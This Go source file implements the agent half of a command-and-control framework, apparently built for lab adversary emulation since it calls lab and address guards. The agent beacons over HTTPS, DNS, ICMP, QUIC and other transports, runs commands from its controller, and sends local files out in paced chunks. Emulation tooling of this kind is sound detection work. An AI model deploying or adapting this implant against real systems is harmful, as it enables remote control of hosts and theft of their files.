package c2

import (
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"time"
)

// channel carries messages of an agent to its controller.
type channel interface {
	// exchange sends a message and returns the answer and what went over the
	// wire; the State of these events is empty, or "handshake".
	exchange(ctx context.Context, up []byte) (down []byte, events []Event, err error)
	limit() int // most bytes of data in a message
	close()
}

func open(p Plan, rng *rand.Rand) (channel, error) {
	if err := checkAddr(p.Server.Addr()); err != nil {
		return nil, err
	}
	switch p.Transport {
	case "https":
		return openHTTPS(p, rng)
	case "dns":
		return openDNS(p, rng)
	case "icmp":
		return openICMP(p, rng)
	case "tcp":
		return openTCP(p)
	case "websocket":
		return &wsChannel{plan: p, rng: rng}, nil
	case "stream":
		return openStream(p), nil
	case "http3":
		return openHTTP3(p, rng)
	case "quic":
		return openQUIC(p)
	case "rotate":
		return openRotation(p, rng), nil
	}
	return nil, fmt.Errorf("there is no transport %q", p.Transport)
}

// agent checks in, does what it is told and tells of it.
type agent struct {
	plan     Plan
	channel  channel
	rng      *rand.Rand
	interval time.Duration
	out      *json.Encoder
}

// runAgent is a program of the lab.
func runAgent(ctx context.Context, _ []string) error {
	if err := inLab(); err != nil {
		return err
	}
	p, err := readPlan(planFile)
	if err != nil {
		return err
	}
	rng := rand.New(rand.NewPCG(p.Seed, 1))
	c, err := open(p, rng)
	if err != nil {
		return err
	}
	defer c.close()
	a := &agent{plan: p, channel: c, rng: rng, interval: p.Interval, out: json.NewEncoder(os.Stdout)}
	for i := 0; p.Push && i < len(p.Tasks); i++ {
		if err := a.push(ctx, p.Tasks[i]); err != nil {
			return err
		}
	}
	shift := newShifts(p.Shifts)
	for n := 1; !p.Push; n++ {
		pending, err := a.checkIn(ctx)
		if err != nil {
			return err
		}
		rest, over := shift.next(n >= p.Checkins && !pending)
		if over {
			return nil
		}
		if rest > 0 {
			c.close()
		}
		if err := sleep(ctx, rest+p.pause(a.interval, rng)); err != nil {
			return err
		}
	}
	return nil
}

// push sends a file unasked.
func (a *agent) push(ctx context.Context, t Task) error {
	if err := checkName(t.Arg); err != nil {
		return err
	}
	data, err := os.ReadFile(t.Arg)
	if err != nil {
		return err
	}
	_, err = a.answer(ctx, t, data, "upload", t.Arg)
	return err
}

func sleep(ctx context.Context, d time.Duration) error {
	select {
	case <-time.After(d):
		return ctx.Err()
	case <-ctx.Done():
		return ctx.Err()
	}
}

// say exchanges one message and tells what for.
func (a *agent) say(ctx context.Context, m message, state, detail string) (message, error) {
	m.Agent = a.plan.Agent
	down, events, err := a.channel.exchange(ctx, m.encode())
	if err != nil {
		return message{}, err
	}
	answer, err := decode(down)
	if err != nil {
		return message{}, err
	}
	if answer.Task != nil {
		state, detail = "tasking", answer.Task.Kind+" "+answer.Task.Arg
	}
	for _, e := range events {
		if e.State == "" {
			e.State, e.Detail = state, detail
		}
		if err := a.out.Encode(e); err != nil {
			return message{}, err
		}
	}
	return answer, nil
}

// checkIn asks for work and does it.
func (a *agent) checkIn(ctx context.Context) (pending bool, err error) {
	m, err := a.say(ctx, message{Kind: "checkin"}, "checkin", "")
	if err != nil || m.Task == nil {
		return m.Pending, err
	}
	t := *m.Task
	detail, state := t.Kind+" "+t.Arg, "tasking"
	var result []byte
	switch t.Kind {
	case "command":
		if result, err = perform(ctx, t.Arg); err != nil {
			result = fmt.Appendf(result, "\n%v", err)
		}
	case "upload":
		state = "upload"
		if err = checkName(t.Arg); err == nil {
			result, err = os.ReadFile(t.Arg)
		}
		if err != nil {
			return false, err
		}
	case "download":
		if err := a.download(ctx, t); err != nil {
			return false, err
		}
	case "sleep":
		if a.interval, err = time.ParseDuration(t.Arg); err != nil {
			return false, err
		}
	default:
		return false, fmt.Errorf("there is no task %q", t.Kind)
	}
	return a.answer(ctx, t, result, state, detail)
}

// answer sends what a task produced, in parts.
func (a *agent) answer(ctx context.Context, t Task, result []byte, state, detail string) (pending bool, err error) {
	part := a.channel.limit()
	if t.Kind == "upload" && a.plan.Part > 0 {
		part = min(part, a.plan.Part)
	}
	for at := 0; ; {
		n := min(part, len(result)-at)
		m, err := a.say(ctx, message{Kind: "result", ID: t.ID, Offset: at, Last: at+n == len(result), Data: result[at : at+n]}, state, detail)
		if err != nil {
			return false, err
		}
		if at += n; at == len(result) {
			return m.Pending, nil
		}
		if t.Kind == "upload" && a.plan.PartPause > 0 {
			if err := sleep(ctx, a.plan.pause(a.plan.PartPause, a.rng)); err != nil {
				return false, err
			}
		}
	}
}

// download fetches a file.
func (a *agent) download(ctx context.Context, t Task) error {
	if err := checkName(t.Arg); err != nil {
		return err
	}
	var data []byte
	for len(data) < t.Size {
		m, err := a.say(ctx, message{Kind: "get", ID: t.ID, Offset: len(data)}, "download", t.Kind+" "+t.Arg)
		if err != nil {
			return err
		}
		if len(m.Data) == 0 {
			return fmt.Errorf("%s ends after %d bytes", t.Arg, len(data))
		}
		data = append(data, m.Data...)
	}
	return os.WriteFile(t.Arg, data, 0o644)
}
